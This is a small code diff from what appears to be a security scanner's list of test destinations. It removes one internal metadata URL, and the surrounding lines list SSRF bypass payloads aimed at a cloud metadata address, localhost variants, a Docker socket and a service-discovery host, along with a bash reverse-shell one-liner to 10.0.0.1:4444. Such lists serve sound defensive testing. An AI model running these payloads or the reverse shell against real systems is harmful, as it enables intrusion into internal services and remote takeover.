@@ -65,7 +65,6 @@ const destinations: Scanner = {
       'https://example.com/redirect?to=//169.254.169.254/',
       'http://0127.0.0.1/',
       'http://127.0.0.1%00.example.com/',
-      'http://192.0.0.192/latest/',
       'http://consul.service.consul/',
       'http://unix:/var/run/docker.sock:/info',
       'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
